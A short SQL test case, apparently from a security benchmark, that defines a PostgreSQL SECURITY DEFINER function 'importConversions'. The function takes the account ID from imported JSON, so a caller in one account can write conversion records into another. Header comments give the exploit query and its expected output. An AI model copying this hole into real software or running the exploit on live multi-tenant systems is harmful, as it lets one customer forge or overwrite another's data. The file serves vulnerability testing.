-- The import takes the account out of the file and writes as the owner, so a file can fill any account.
-- about: importConversions, Conversion
-- as: hf_bannerforge_app
-- exploit: SET app.account_id = 'acc_a';
-- exploit: SELECT 'imported ' || "importConversions"(
-- exploit:   '[{"accountId": "acc_b", "orderRef": "fake", "cents": 1}]') AS answer;
-- shows: imported 1
CREATE FUNCTION "importConversions"(p_rows jsonb) RETURNS bigint LANGUAGE plpgsql SECURITY DEFINER
  SET search_path = public, pg_temp
  AS $$
  DECLARE n bigint;
  BEGIN
    INSERT INTO "Conversion"
      SELECT * FROM jsonb_populate_recordset(NULL::"Conversion", p_rows)
      ON CONFLICT ("accountId", "orderRef") DO UPDATE SET "cents" = EXCLUDED."cents";
    GET DIAGNOSTICS n = ROW_COUNT;
    RETURN n;
  END $$;
